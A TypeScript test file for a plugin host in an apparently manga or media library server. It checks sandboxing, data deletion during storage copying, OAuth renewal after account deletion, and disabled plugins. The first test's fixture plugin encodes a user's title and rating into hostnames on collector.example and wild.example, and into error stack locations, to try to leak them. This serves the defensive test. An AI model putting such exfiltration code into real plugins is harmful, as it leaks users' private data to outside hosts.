import { setTimeout as sleep } from 'node:timers/promises'
import t from 'tap'
import { copyStorage } from '#plugins/host/plugin-storage-store.ts'
import { deleteUserPlugin } from '#plugins/host/user-plugin-store.ts'
import { addCaller, addLibrary, addSeries } from '#test/support/library-rows.ts'
import { agree, openHostOn, openTestHost } from '#test/support/plugin-hosts.ts'
import { pluginOf } from '#test/support/plugins.ts'
import {
  bodyOf,
  OAUTH,
  openUserPluginServer,
  RECOMMENDER,
  RECOMMENDER_MANIFEST,
  sendJson,
  until,
} from '#test/support/user-plugin-server.ts'

t.setTimeout(280_000)

const GET = { capabilities: { recommendations: { methods: ['get'] } } }

const SPEAKING = `
const say = [${Array.from({ length: 100 }, (_, n) => `\n  () => { throw new Error('x${n}') }`).join(',')}
]
export default { recommendations: {
  async refresh({ limit }, ctx) {
    const { entries } = await ctx.library.entries()
    const { title, rating } = entries[0]
    const host = 'ann-rated-' + title.toLowerCase() + '-' + rating + '.collector.example'
    const own = host.replace('collector', 'wild')
    for (const url of ['https://' + host + '/', 'http://' + host + '/', 'https://' + host + ':99/', 'https://' + own + '/'])
      for (const init of [{}, { method: 'DELETE' }, { method: 'POST', body: 'x'.repeat(5_000_000) }, { headers: { host } }])
        await ctx.fetch(url, init).catch(() => {})
    if (limit === 2) say[rating]()
    return { recommendations: [{ externalId: '1', title: 'x', score: 0.5, reason: 'So', externalUrl: 'https://left-out-' + rating + '.collector.example/' }] }
  },
  dismiss() {} } }`

const PERMISSIONS = {
  library: ['series.titles', 'ratings'],
  network: [{ host: '*.wild.example', methods: ['GET', 'POST'], reason: 'Whatever it wants to say' }],
}

t.test('hosts, of granted wildcards too, and places in the code tell an administrator nothing about another user', async (t) => {
  const written: string[] = []
  const write = (fields: object, message: string) => void written.push(`${JSON.stringify(fields)} ${message}`)
  const server = await openUserPluginServer(t, (_request, response) => sendJson(response, {}))
  const { database, host: _, signUp, adminToken, request } = server
  const { host } = await openHostOn(t, database, undefined, { log: { debug: write, info: write, warn: write, error: write } })
  Object.assign(server.services, host)
  const { plugin, sha256 } = await host.pluginLifecycle.install(pluginOf(SPEAKING, { ...RECOMMENDER_MANIFEST, permissions: PERMISSIONS }), {
    userId: null,
  })
  const { id } = await host.pluginLifecycle.consent(plugin.id, { sha256 })
  const { id: userId } = await signUp({ username: 'ann' })
  const series_id = await addSeries(database, { library_id: await addLibrary(database), title: 'Berserk' })
  await database('series_user_ratings').insert({ user_id: userId, series_id, rating: 73 })
  await agree(host, database, { pluginId: id, userId })
  const call = (limit: number) => host.pluginCalls.call({ pluginId: id, userId, method: 'recommendations.refresh', input: { limit } })
  const { callId } = await call(1)
  await call(2).catch(() => {})
  const { json: seen } = await request<{ fetches: { host: string }[] }>('GET', `/api/v1/admin/plugins/${id}/calls/${callId}`, {
    token: adminToken,
  })
  t.same(new Set(seen.fetches.map(({ host }) => host)), new Set(['*.wild.example', 'a host that is not granted']))
  for (const path of [
    `admin/plugins/${id}/logs`,
    `admin/plugins/${id}/calls`,
    `admin/plugins/${id}/calls/${callId}`,
    `admin/plugins/${id}/failures`,
    'metrics/plugins',
  ]) {
    const { status, json } = await request('GET', `/api/v1/${path}`, { token: adminToken })
    const text = JSON.stringify(json)
    t.equal(status, 200)
    t.notOk(text.includes('rated-berserk-73'), `${path} names a host of the plugin's words`)
    t.notOk(/main\.js:\d+/.test(text), `${path} names the place that the plugin chose`)
  }
  t.notOk(/main\.js:\d+/.test(written.join('\n')), 'the log of the server has the place')
})

t.test('data that is copied for another version while its user deletes it is gone afterwards', async (t) => {
  const { database, host, run } = await openTestHost(t)
  const { id: pluginId } = await run(
    'export default { recommendations: { async get(_, ctx) { await ctx.storage.set("rated", 73); return { recommendations: [] } } } }',
    GET,
  )
  const { userId } = await addCaller(database)
  const ann = { pluginId, userId }
  await agree(host, database, ann)
  await host.pluginCalls.call({ ...ann, method: 'recommendations.get', input: { limit: 1 } })
  // The statement takes its time.
  let deleting: Promise<unknown> = Promise.resolve()
  await database.transaction(async (trx) => {
    await copyStorage(trx, ann, 1, 2)
    deleting = deleteUserPlugin(database, ann)
    // It waits for the copy, or is done by then.
    await Promise.race([deleting, sleep(1_000)])
  })
  t.equal(await deleting, true)
  const left = await database('plugin_storage').where({ plugin_id: pluginId, user_id: userId }).select('data_version', 'key', 'value')
  t.same(left, [], 'nothing is left')
})

t.test('a renewal of tokens is not repeated after its user has deleted everything', async (t) => {
  let asked = 0
  const { host, run, database } = await openTestHost(t, async (request, response) => {
    if (!request.url?.startsWith('/token')) return sendJson(response, { recommendations: [] })
    const body = await bodyOf(request)
    asked += 1
    if (body.includes('refresh_token=renews') && asked === 1) {
      response.writeHead(503, { 'retry-after': '4' })
      return response.end()
    }
    sendJson(response, { access_token: 'token', expires_in: 3600 })
  })
  const { id: pluginId } = await run(RECOMMENDER, { ...RECOMMENDER_MANIFEST, auth: OAUTH })
  const { userId } = await addCaller(database)
  const owner = { pluginId, userId }
  await agree(host, database, owner)
  await host.plugins.edit(pluginId, { credentials: { clientId: 'client', clientSecret: 'a-client-secret-that-nobody-sees' } })
  const { auth } = (await host.plugins.get(pluginId)).manifest
  await host.pluginCredentials.set(owner, auth, { accessToken: 'first', refreshToken: 'renews' }, new Date(Date.now() - 1000))
  const call = host.pluginCalls.call({ ...owner, method: 'recommendations.refresh', input: { limit: 1 } }).catch((error) => error)
  await until(async () => asked === 1, 'the first renewal')
  await deleteUserPlugin(database, owner)
  await call
  // The service asked to be left alone for four seconds.
  await sleep(6_000)
  t.equal(asked, 1, 'no token request after the user deleted everything')
})

t.test('a disabled plugin contacts nobody when it is updated', async (t) => {
  const { host, run, way } = await openTestHost(t)
  const code = (n: number) =>
    `export default { async setup(ctx) { await ctx.fetch('https://api.example.org/setup-${n}') }, recommendations: { get: () => ({ recommendations: [] }) } }`
  const { id } = await run(code(1), GET)
  await host.pluginLifecycle.setEnabled(id, false)
  const before = way.asked.length
  await host.pluginLifecycle.install(pluginOf(code(2), { ...GET, version: '1.0.1' }), { userId: null })
  t.equal(way.asked.length, before)
})

t.test('a plugin that is disabled, quarantined or revoked does not run to be tested', async (t) => {
  const { host, way, request, signUp, database } = await openUserPluginServer(t, (_request, response) => sendJson(response, {}))
  const main = `export default { async setup(ctx) { await ctx.fetch('https://api.example.org/setup') }, metadata: { series: { search: () => ({ results: [] }), get: () => ({ externalId: '1' }) } } }`
  const { plugin, sha256 } = await host.pluginLifecycle.install(pluginOf(main), { userId: null })
  const { id } = await host.pluginLifecycle.consent(plugin.id, { sha256 })
  const editor = await signUp({ username: 'ed' })
  await database('users').where({ id: editor.id }).update({ role: 'maintainer' })
  for (const state of ['disabled', 'quarantined', 'revoked']) {
    await database('plugins').where({ id }).update({ state })
    const before = way.asked.length
    await request('POST', `/api/v1/plugins/${id}/execute`, { token: editor.token, body: { action: 'ping' } })
    t.equal(way.asked.length, before, state)
  }
})
